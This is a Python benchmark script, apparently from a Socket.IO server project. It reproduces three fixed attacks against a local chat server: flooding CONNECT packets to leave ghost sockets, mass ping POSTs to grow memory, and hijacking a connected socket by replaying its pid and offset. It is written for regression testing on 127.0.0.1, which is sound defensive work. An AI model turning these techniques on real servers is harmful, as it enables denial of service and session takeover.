#!/usr/bin/env python3
"""The three stateful attacks of issue 20, against a running chat example (or any server with
the chat's `/metrics`), with the server's RSS before and after each.

    python3 bench/attacks.py --port 3000 --pid "$(pgrep -f 'target/release/chat')"

1. ghosts: one polling client POSTs 50 CONNECTs to `/` (a namespace with a middleware), then
   closes; three rounds. Before the fix each round left 49 sockets and the session behind.
2. pings: one polling client POSTs 2,000 bodies of 1,000 client pings and never polls. Before
   the fix the queue of pongs grew without bound and the session stayed alive.
3. hijack: a second client presents the pid and offset of a socket that is still connected
   (run the chat with REDIS_URL and ADAPTER=streams for the case the issue measured). Before
   the fix it got that socket's id.

Standard library only; talks to 127.0.0.1; every loop is bounded.
"""

import argparse
import http.client
import json
import time

SEP = "\x1e"


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return -1


class Client:
    """A raw Engine.IO v4 long-polling client on one keep-alive connection."""

    def __init__(self, port):
        # Longer than a poll can wait (the ping interval, 25 s by default).
        self.conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        status, body = self.request("GET", "/socket.io/?EIO=4&transport=polling")
        assert status == 200, (status, body)
        self.sid = json.loads(body[1:])["sid"]

    def request(self, method, path, body=None):
        headers = {"Content-Type": "text/plain;charset=UTF-8"} if body is not None else {}
        self.conn.request(method, path, body=body, headers=headers)
        res = self.conn.getresponse()
        return res.status, res.read().decode("utf-8", "replace")

    def url(self):
        return f"/socket.io/?EIO=4&transport=polling&sid={self.sid}"

    def post(self, packets):
        return self.request("POST", self.url(), SEP.join(packets))

    def poll(self):
        status, body = self.request("GET", self.url())
        return status, body.split(SEP) if status == 200 else [body]


def metrics(port):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    conn.request("GET", "/metrics")
    text = conn.getresponse().read().decode()
    out = {}
    for line in text.splitlines():
        if line.startswith("sio_sockets{") or line.startswith("sio_sessions "):
            name, value = line.rsplit(" ", 1)
            out[name] = float(value)
    return out


def ghosts(port):
    for round_ in range(3):
        c = Client(port)
        c.post(['40{"name":"x"}'] * 50)
        time.sleep(0.2)
        c.post(["1"])
        time.sleep(1.0)
        print(f"  round {round_ + 1}: {metrics(port)}")


def pings(port):
    c = Client(port)
    c.post(['40{"name":"p"}'])
    start = time.time()
    refused = 0
    for _ in range(2000):
        status, _ = c.post(["2"] * 1000)
        refused += status != 200
    print(f"  2,000 POSTs in {time.time() - start:.1f} s, {refused} refused; {metrics(port)}")


def hijack(port):
    victim = Client(port)
    victim.post(['40{"name":"victim"}'])
    # Joining a room makes the chat broadcast (the room list, the presence): an offset.
    victim.post(['42["join","lobby"]'])
    pid, sid, offset = None, None, None
    for _ in range(5):
        _, packets = victim.poll()
        for p in packets:
            if p.startswith("40{"):
                answer = json.loads(p[2:])
                pid, sid = answer.get("pid"), answer.get("sid")
            elif p.startswith("42["):
                last = json.loads(p[2:])[-1]
                if isinstance(last, str):
                    offset = last
        if pid and offset:
            break
    if not (pid and offset):
        print("  no pid or offset seen: is recovery on?")
        return
    thief = Client(port)
    thief.post([json.dumps({"pid": pid, "offset": offset, "name": "thief"}).join(["40", ""])])
    got = None
    for _ in range(5):
        _, packets = thief.poll()
        for p in packets:
            if p.startswith("40{"):
                got = json.loads(p[2:]).get("sid")
        if got:
            break
    print(f"  victim's socket {sid}; the thief got {got}: {'TAKEN' if got == sid else 'refused'}")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, default=3000)
    parser.add_argument("--pid", type=int, required=True)
    args = parser.parse_args()
    for name, attack in [("ghosts", ghosts), ("pings", pings), ("hijack", hijack)]:
        before = rss_kb(args.pid)
        print(f"{name}: RSS before {before / 1024:.1f} MB")
        attack(args.port)
        time.sleep(1.0)
        print(f"{name}: RSS after {rss_kb(args.pid) / 1024:.1f} MB")


if __name__ == "__main__":
    main()
